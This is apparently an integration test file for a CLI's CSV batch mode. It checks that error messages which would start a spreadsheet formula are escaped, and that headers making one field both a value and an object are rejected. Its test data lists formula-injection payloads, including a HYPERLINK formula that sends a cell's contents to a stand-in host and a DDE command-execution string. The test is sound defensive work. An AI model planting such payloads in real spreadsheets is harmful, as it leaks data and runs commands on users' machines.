"""`k4u batch` with CSV files, as a spreadsheet user meets them: a results cell that a spreadsheet
would run as a formula (relay error text is untrusted) is written as text, and a header that makes
one field both a value and an object is refused naming both columns."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlmodel import select

from models.tables import Job
from tests.integration.test_cli import k4u
from tests.integration.test_cli_jobs import no_traceback
from workers.db import get_engine, session_scope

FORMULAS = ['=HYPERLINK("http://evil.test/?d="&A1,"details")', "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
def test_results_csv_cells_never_start_a_formula(db_url: str, tmp_path: Path) -> None:
    env = {"K4U_DATABASE_URL": db_url, "K4U_STORAGE_URL": f"file://{tmp_path}/objects"}
    jobs = tmp_path / "jobs.csv"
    jobs.write_text("provider,operation,input.prompt\n" + "".join(f"kling,text2video,fox {i}\n" for i in range(len(FORMULAS))))
    out = tmp_path / "out.csv"
    assert k4u("batch", str(jobs), "--no-wait", "--results", str(out), env=env, cwd=tmp_path).returncode == 0
    with session_scope(get_engine(db_url)) as s:  # the relay's error text, stored as it came
        for job, text in zip(s.exec(select(Job).order_by(Job.created_at, Job.id)).all(), FORMULAS, strict=True):
            job.status, job.error_code, job.error_message = "failed", "provider_failed", text
    r = k4u("batch", str(jobs), "--no-wait", "--results", str(out), env=env, cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    with out.open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert sorted(row["error_message"] for row in rows) == sorted("'" + text for text in FORMULAS)
    assert all(row["status"] == "failed" and row["job_id"].startswith("job_") for row in rows)


def test_a_field_that_is_both_a_value_and_an_object_is_refused_naming_the_columns(tmp_path: Path) -> None:
    for header in ("input.prompt,input.prompt.text", "input.style.x,input.style", "metadata.row,metadata.row.n", "input.prompt,input.prompt"):
        jobs = tmp_path / "jobs.csv"
        jobs.write_text(f"provider,operation,{header}\nkling,text2video,a,b\n")
        r = k4u("batch", str(jobs), env={"K4U_DATABASE_URL": f"sqlite:///{tmp_path}/x.db"}, cwd=tmp_path)
        no_traceback(r)
        assert r.returncode == 1 and "line 1:" in r.stderr and "nothing was created" in r.stderr, (header, r.stderr)
        for column in header.split(","):
            assert column in r.stderr, (header, r.stderr)
